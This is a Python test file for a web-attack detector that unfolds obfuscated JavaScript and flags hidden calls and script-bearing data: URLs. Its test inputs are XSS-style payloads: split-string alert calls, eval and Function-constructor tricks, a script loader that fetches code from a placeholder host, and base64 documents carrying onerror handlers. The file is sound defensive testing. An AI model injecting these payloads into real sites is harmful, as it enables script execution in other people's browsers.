"""Values read as JavaScript, and documents that addresses hold."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from yett.formats.inspected import Origin, Value
from yett.rules.attacks import script_injection
from yett.rules.inspection.javascript import calls, folded, meaningless
from yett.rules.inspection.pack import Pack


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (b"'al'+'ert'", b"'alert'"),
        (b"'al'.concat('ert')", b"'alert')"),
        (b"top['ale' + \"rt\"](1)", b"top.alert(1)"),
        (b"top['\\141lert'](1)", b"top.alert(1)"),
        (b"self[/ale/.source+/rt/.source]", b"self.alert"),
        (b"top?.[`alert`](1)", b"top.alert(1)"),
        (b"8680439..toString(30)", b"'alert'"),
    ],
)
def test_puts_strings_together(text: bytes, shown: bytes) -> None:
    assert folded(text) == shown


def test_plain_text_stays_the_same_object() -> None:
    text = b"nothing to put together"
    assert folded(text) is text


@pytest.mark.parametrize(
    "text",
    [
        b"top['ale'+'rt'](1)",
        b"[4].every(alert)",
        b"(prompt)(3)",
        b"confirm?.(9)",
        b"alert.bind(null, 2)()",
        b"x=eval,x('1')",
        b"window.onerror=prompt;throw 8",
        b"setTimeout('al'+'ert(4)')",
        b"Reflect.apply.call`${alert}`",
        b"s=document.createElement('script');s.src='//a.example.com/x.js';document.body.append(s)",
        b"''.sub.constructor('print()')()",
    ],
)
def test_finds_hidden_calls(text: bytes) -> None:
    assert calls(text)


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"'a' + 'b'",
        b"the alert (3) was shown",
        b"values.map(prompts)",
        b"onerror = handler",
        b"[[[[[[[[[[[[[[1]]]]]]]]]]]]]]",
    ],
)
def test_lets_ordinary_code_pass(text: bytes) -> None:
    assert not calls(text)


def test_brackets_alone_are_a_program_only_with_signs() -> None:
    assert meaningless(b"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]")
    assert not meaningless(b"[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]")
    assert not meaningless(b"((((((((((((a))))))))))))")


@given(st.text(alphabet="'\"+`/.[]()\\x01412ealrt$?!{} ", max_size=200))
def test_reads_anything_and_never_makes_it_longer(text: str) -> None:
    value = text.encode()
    assert len(folded(value)) <= len(value)
    assert calls(value) in (True, False)


@pytest.mark.parametrize(
    ("text", "hostile"),
    [
        (b"data:;base64,PGltZyBzcmM9eCBvbmVycm9yPXByaW50KCk+", True),
        (b"data:text/html;base64,Ij48aW1nIHNyYz14IG9uZXJyb3I9cHJpbnQoKT4=", True),
        (b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", False),
        (b"data:text/plain;base64,SGVsbG8sIHdvcmxkISBIZWxsbyE=", False),
        (b"data:text/html;base64,QQ=========A=A=A=", False),
    ],
)
def test_documents_in_addresses(text: bytes, hostile: bool) -> None:
    pack = Pack([(script_injection.RULE, [one for one in script_injection.SIGNATURES if one.id == "packed-document"])])
    values = [Value(Origin.QUERY, b"next", text)]
    found = [one for one in pack.look_closely(values, None, pack.look([text]), lambda *_: True) if one]
    assert bool(found) == hostile
